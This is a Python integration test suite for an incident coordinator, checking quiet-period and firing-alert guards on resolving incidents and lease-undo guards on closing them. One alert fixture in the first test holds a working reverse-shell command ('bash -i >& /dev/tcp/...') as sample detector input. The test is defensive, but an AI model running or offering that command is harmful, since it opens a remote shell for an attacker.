"""Closing an incident as the runbook asks, against the real broker and the real Postgres: its alerts quiet
(and none firing) before it is resolved as fixed where a lifecycle asks it, the undo of its actions settled
before it is closed."""

from __future__ import annotations

import json
from collections.abc import AsyncIterator
from datetime import UTC, datetime, timedelta
from typing import Any

import asyncpg
import httpx
import pytest

from services.coordinator import api, lifecycle
from services.coordinator.handlers import Coordinator
from services.coordinator.service import load_oncall
from services.detector.handlers import Detector, decode
from shared import cloudevents, housekeeping
from shared.consumer import HandlerContext, Inbound, decode_cloudevent, write_context
from shared.db import connect
from shared.events import (
    AlertRepeat,
    AlertsChange,
    AlertSummary,
    ChangeState,
    CommandArgs,
    CommandRejected,
    EventBase,
    IncidentAlertsChanged,
    IncidentDetected,
    IncidentStateChanged,
    IncidentUpdated,
    LeaseChange,
    ResolveIncident,
    ResponseLeaseChanged,
    ResponseStepChanged,
    Severity,
    StateCommand,
    StepChange,
)
from shared.kafka import group_id, make_producer
from shared.outbox import OutboxRelay
from shared.service import Runtime, build_app
from shared.settings import VigilSettings
from shared.topics import ALERTS_RAW, INCIDENTS, TopicNames
from tests.factories import T0, alert_dict, snapshot
from tests.helpers import committed, consume_loop, eventually, produce, serve_app

pytestmark = [pytest.mark.integration, pytest.mark.asyncio(loop_scope="session"), pytest.mark.timeout(120)]

QUIET = "quiet for 30m first"


async def feed(pool: asyncpg.Pool, names: TopicNames, coordinator: Coordinator, *events: EventBase) -> None:
    """Handle the events as one batch, as the coordinator's consume loop does."""
    async with pool.acquire() as conn, conn.transaction():
        ctx = HandlerContext(conn=conn, service="coordinator", names=names)
        await coordinator.handle(ctx, [Inbound[Any](event_id=e.id, item=e, record=None) for e in events])
        await write_context(conn, ctx)


async def emitted(pool: asyncpg.Pool) -> list[EventBase]:
    rows = await pool.fetch("SELECT value, headers FROM outbox WHERE service = 'coordinator' ORDER BY id")
    return [cloudevents.decode(r["value"], [(n, v.encode()) for n, v in r["headers"]]) for r in rows]


async def closure(pool: asyncpg.Pool, incident: str) -> tuple[int | None, datetime | None]:
    row = await pool.fetchrow(
        "SELECT firing, last_alert_at FROM coordinator_incidents WHERE incident_id = $1", incident
    )
    assert row is not None
    return row["firing"], row["last_alert_at"]


async def quiet_since(pool: asyncpg.Pool, incident: str, minutes: int) -> None:
    """Move the stored last sighting back, instead of waiting that long."""
    await pool.execute(
        "UPDATE coordinator_incidents SET last_alert_at = now() - make_interval(mins => $2) WHERE incident_id = $1",
        incident,
        minutes,
    )


QUIET_GUARD = "guards: [{kind: alerts_quiet, for: 30m, severities: [SEV1, SEV2], resolutions: [fixed]}]"
# The shipped lifecycle with its commented example taken up: a fixed SEV1/SEV2 resolved once its alerts were quiet.
QUIET_TEXT = lifecycle.DEFAULT_LIFECYCLE.read_text().replace(
    "    resolution: required\n", f"    resolution: required\n    {QUIET_GUARD}\n", 1
)
QUIET_LIFECYCLE = lifecycle.parse_lifecycle(QUIET_TEXT)


@pytest.fixture
async def served(
    settings: VigilSettings, pool: asyncpg.Pool, names: TopicNames
) -> AsyncIterator[tuple[Coordinator, httpx.AsyncClient]]:
    """The coordinator (the shipped lifecycle, holding resolve as its comment shows) and its API."""
    coordinator = Coordinator(load_oncall(), lifecycle_=QUIET_LIFECYCLE)
    runtime = Runtime(service="coordinator", settings=settings, pool=pool, producer=None, names=names)  # type: ignore[arg-type]
    app = build_app(runtime, api.routers(runtime, coordinator))
    async with serve_app(app, name="coordinator-api") as base, httpx.AsyncClient(base_url=base) as http:
        yield coordinator, http


async def command(http: httpx.AsyncClient, incident: str, path: str, body: dict[str, Any]) -> httpx.Response:
    return await http.post(f"/api/v1/incidents/{incident}/{path}", json={"actor": "alice", **body})


# ---- from the detector: a fresh alert holds a fixed SEV1 off resolved ------------------------------------


async def _detected(settings: VigilSettings, names: TopicNames, records: int) -> None:
    """Wait until the detector has committed as many raw records."""
    group = group_id(settings, "detector")

    async def done() -> bool:
        return (await committed(settings, group, names(ALERTS_RAW)) or 0) == records

    await eventually(done)


async def _publish_detector(settings: VigilSettings, pool: asyncpg.Pool) -> int:
    """Publish the detector's outbox to the broker, as its relay does."""
    producer = make_producer(settings, client_id="detector-relay")
    await producer.start()
    try:
        relay = OutboxRelay(
            service="detector", pool=pool, producer=producer, connect=lambda: connect(settings.database_url)
        )
        return (await relay.publish_pending()).sent
    finally:
        await producer.stop()


async def _coordinate(
    settings: VigilSettings, pool: asyncpg.Pool, names: TopicNames, coordinator: Coordinator, events: int
) -> None:
    """Run the coordinator's consume loop on the incidents topic until it has handled ``events`` more events.

    Counted from what its ledger holds before, since an operator's command through the API is in it too."""
    before: int = await pool.fetchval("SELECT count(*) FROM processed_events WHERE service = 'coordinator'")
    async with consume_loop(
        settings,
        pool,
        service="coordinator",
        topics=[names(INCIDENTS)],
        decoder=decode_cloudevent,
        handler=coordinator.handle,
    ):
        await eventually(lambda: _handled(pool, before + events))


async def _handled(pool: asyncpg.Pool, expected: int) -> bool:
    done: int = await pool.fetchval("SELECT count(*) FROM processed_events WHERE service = 'coordinator'")
    return done >= expected


async def test_a_fresh_alert_holds_a_fixed_sev1_off_resolved_until_its_alerts_were_quiet_for_30_minutes(
    settings: VigilSettings, pool: asyncpg.Pool, names: TopicNames, served: tuple[Coordinator, httpx.AsyncClient]
) -> None:
    coordinator, http = served
    raw = names(ALERTS_RAW)
    shell = alert_dict(
        source="falco",
        title="Reverse shell spawned in a container",
        description="bash -i >& /dev/tcp/203.0.113.45/4444 0>&1",
        severity="critical",
        host="web-07",
        time=datetime.now(UTC).isoformat(),
    )
    record: tuple[bytes | None, bytes, list[tuple[str, bytes]]] = (None, json.dumps(shell).encode(), [])
    detector = Detector(correlation_window=timedelta(minutes=30))
    async with consume_loop(settings, pool, service="detector", topics=[raw], decoder=decode, handler=detector.handle):
        await produce(settings, raw, [record])
        await _detected(settings, names, 1)
    assert await _publish_detector(settings, pool) == 1
    await _coordinate(settings, pool, names, coordinator, 1)
    incident = await pool.fetchval("SELECT incident_id FROM coordinator_incidents")
    assert await pool.fetchval("SELECT severity FROM coordinator_incidents") in ("SEV1", "SEV2")
    firing, last_alert_at = await closure(pool, incident)
    assert firing == 1 and last_alert_at is not None
    assert abs(last_alert_at - datetime.fromisoformat(shell["time"])) < timedelta(seconds=1)

    # `vigil resolve` (fixed) a moment after the alert: refused, saying why and until when.
    refused = await command(http, incident, "resolve", {})
    assert refused.status_code == 409, refused.text
    detail = refused.json()["detail"]
    assert detail.startswith(f"cannot resolve yet: last alert under a minute ago; {QUIET} (from "), detail
    [rejected] = [e for e in await emitted(pool) if isinstance(e, CommandRejected)]
    assert rejected.data.reason == detail

    # Half an hour without an alert (the stored sighting moved back): then the same alert again, a
    # repeat, and the quiet period starts over.
    await quiet_since(pool, incident, 31)
    await housekeeping.prune(pool, service="detector", keep_processed=timedelta(0))  # its id forgotten: a repeat
    async with consume_loop(settings, pool, service="detector", topics=[raw], decoder=decode, handler=detector.handle):
        await produce(settings, raw, [record])
        await _detected(settings, names, 2)
    assert await _publish_detector(settings, pool) == 1  # the repeat, made visible
    await _coordinate(settings, pool, names, coordinator, 1)
    firing, repeated_at = await closure(pool, incident)
    assert firing == 1 and repeated_at is not None and repeated_at > datetime.now(UTC) - timedelta(minutes=1)
    again = await command(http, incident, "resolve", {"resolution": "fixed"})
    assert again.status_code == 409 and QUIET in again.json()["detail"]

    await quiet_since(pool, incident, 30)
    resolved = await command(http, incident, "resolve", {"resolution": "fixed", "note": "reimaged; quiet since"})
    assert resolved.status_code == 200, resolved.text
    assert (resolved.json()["state"], resolved.json()["resolution"]) == ("resolved", "fixed")


# ---- what the coordinator keeps of the detector's events -------------------------------------------------


def summary(key: str, status: str = "firing", *, at: datetime | None = None) -> AlertSummary:
    return AlertSummary.model_validate(
        {
            "key": key,
            "source": "falco",
            "title": "Reverse shell",
            "severity": "critical",
            "time": (at or datetime.now(UTC)).isoformat(),
            "status": status,
        }
    )


NO_FIRING = lifecycle.parse_lifecycle(
    QUIET_TEXT.replace(QUIET_GUARD, "guards: [{kind: no_alerts_firing, resolutions: [fixed]}]", 1)
)


async def test_the_firing_count_and_last_sighting_follow_the_detectors_snapshots_and_alert_changes(
    pool: asyncpg.Pool, names: TopicNames
) -> None:
    coordinator = Coordinator(load_oncall(), lifecycle_=NO_FIRING)
    incident = "inc-count"
    now = datetime.now(UTC)
    first = snapshot(
        alert_count=3, last_seen=now - timedelta(minutes=5), new_alerts=[summary("a"), summary("b")], parts=2
    )
    detected = IncidentDetected(source="/vigil/detector", subject=incident, data=first)
    # The batch's third alert, in a second part; a tool's clock ahead of ours counts as now, no later.
    rest = first.model_copy(update={"new_alerts": [summary("c")], "part": 2, "last_seen": now + timedelta(hours=1)})
    second = IncidentUpdated(source="/vigil/detector", subject=incident, correlationid=detected.id, data=rest)
    await feed(pool, names, coordinator, detected)
    assert await closure(pool, incident) == (2, now - timedelta(minutes=5))
    await feed(pool, names, coordinator, second)
    assert await closure(pool, incident) == (3, second.time)

    # Two resolved, one of them fired again first: the detector's own count replaces the sum.
    await quiet_since(pool, incident, 60)
    repeat_at = datetime.now(UTC)
    change = AlertsChange(repeated=[AlertRepeat(key="a", repeats=1, last_seen=repeat_at)], firing=1, alert_count=3)
    await feed(pool, names, coordinator, IncidentAlertsChanged(source="/vigil/detector", subject=incident, data=change))
    assert await closure(pool, incident) == (1, repeat_at)

    resolve = ResolveIncident(source="/t", subject=incident, data=CommandArgs(actor="alice", resolution="fixed"))
    await feed(pool, names, coordinator, resolve)
    [rejected] = [e for e in await emitted(pool) if isinstance(e, CommandRejected)]
    assert rejected.data.reason == f"cannot resolve yet: 1 alert still firing (vigil incidents show {incident})"

    ended = AlertsChange(firing=0, alert_count=3)
    await feed(pool, names, coordinator, IncidentAlertsChanged(source="/vigil/detector", subject=incident, data=ended))
    assert await closure(pool, incident) == (0, repeat_at)  # an alert that ended is no new sighting
    await feed(pool, names, coordinator, resolve.model_copy(update={"id": "resolve-again"}))
    assert await pool.fetchval("SELECT state FROM coordinator_incidents WHERE incident_id = $1", incident) == (
        "resolved"
    )


async def test_a_false_positive_or_a_less_severe_incident_is_not_held_for_the_quiet_period(
    pool: asyncpg.Pool, names: TopicNames
) -> None:
    coordinator = Coordinator(load_oncall(), lifecycle_=QUIET_LIFECYCLE)
    now = datetime.now(UTC)
    fresh = {"last_seen": now, "new_alerts": [summary("a", at=now)]}
    for incident, severity in (("inc-fp", Severity.SEV1), ("inc-fixed", Severity.SEV1), ("inc-sev3", Severity.SEV3)):
        data = snapshot(severity=severity, **fresh)
        await feed(pool, names, coordinator, IncidentDetected(source="/vigil/detector", subject=incident, data=data))

    def resolve(incident: str, resolution: str | None) -> ResolveIncident:
        return ResolveIncident(source="/t", subject=incident, data=CommandArgs(actor="al", resolution=resolution))

    await feed(pool, names, coordinator, resolve("inc-fp", "false_positive"))
    await feed(pool, names, coordinator, resolve("inc-fixed", None))  # `vigil resolve`: fixed
    moved = ChangeState(
        source="/t", subject="inc-sev3", data=StateCommand(actor="al", to_state="resolved", resolution="fixed")
    )
    await feed(pool, names, coordinator, moved)
    states = {
        r["incident_id"]: r["state"] for r in await pool.fetch("SELECT incident_id, state FROM coordinator_incidents")
    }
    assert states == {"inc-fp": "resolved", "inc-fixed": "detected", "inc-sev3": "resolved"}
    events = await emitted(pool)
    assert {
        (e.subject, e.data.resolution) for e in events if isinstance(e, IncidentStateChanged) and e.data.resolution
    } == {
        ("inc-fp", "false_positive"),
        ("inc-sev3", "fixed"),
    }
    [held] = [e for e in events if isinstance(e, CommandRejected)]
    assert held.subject == "inc-fixed" and QUIET in held.data.reason


# ---- the responder's leases: closed only once every undo has settled -------------------------------------


def lease(incident: str, state: str, change: str) -> ResponseLeaseChanged:
    data = LeaseChange.model_validate(
        {
            "step_id": f"{incident}:block:ab",
            "name": "Block address: 203.0.113.7",
            "target_kind": "ip",
            "target": "203.0.113.7",
            "action": "block",
            "state": state,
            "change": change,
            "actor": "responder",
            "reason": "the firewall answered 503",
            "duration_s": 3600,
        }
    )
    return ResponseLeaseChanged(source="/vigil/responder", subject=incident, data=data)


async def test_a_lease_whose_undo_failed_holds_the_incident_off_closed_until_it_is_settled(
    pool: asyncpg.Pool, names: TopicNames, served: tuple[Coordinator, httpx.AsyncClient]
) -> None:
    coordinator, http = served
    incident = "inc-lease"
    # A SEV3 (no post-mortem to wait for), its last alert long ago (T0): only the lease may hold it.
    detected = IncidentDetected(source="/vigil/detector", subject=incident, data=snapshot(severity=Severity.SEV3))
    blocked = StepChange.model_validate(
        {
            "step_id": f"{incident}:block:ab",
            "plan_id": "p",
            "step": "block",
            "phase": "containment",
            "name": "Block address",
            "item": "203.0.113.7",
            "connector": "blocklist",
            "action": "block",
            "from_state": "running",
            "state": "succeeded",
            "actor": "responder",
            "on_failure": "continue",
        }
    )
    step = ResponseStepChanged(source="/vigil/responder", subject=incident, data=blocked)
    await feed(pool, names, coordinator, detected, step, lease(incident, "active", "created"))
    assert snapshot().last_seen == T0
    assert (await command(http, incident, "resolve", {"resolution": "fixed"})).status_code == 200

    await feed(pool, names, coordinator, lease(incident, "reverting", "expired"))
    reverting = await command(http, incident, "state", {"to_state": "closed"})
    assert reverting.status_code == 409
    assert reverting.json()["detail"] == (
        "cannot close yet: lease of 'Block address: 203.0.113.7' is reverting: wait for its undo to end "
        f"(vigil lease list {incident})"
    )
    await feed(pool, names, coordinator, lease(incident, "revert_failed", "revert_failed"))
    failed = await command(http, incident, "state", {"to_state": "closed"})
    assert failed.status_code == 409
    assert failed.json()["detail"] == (
        "cannot close yet: lease of 'Block address: 203.0.113.7' is revert_failed: the action is still in force; "
        f"undo it by hand, or try its undo again (vigil response rollback {incident})"
    )

    await feed(pool, names, coordinator, lease(incident, "reverted", "rolled_back"))
    closed = await command(http, incident, "state", {"to_state": "closed"})
    assert closed.status_code == 200, closed.text
    assert closed.json()["state"] == "closed"
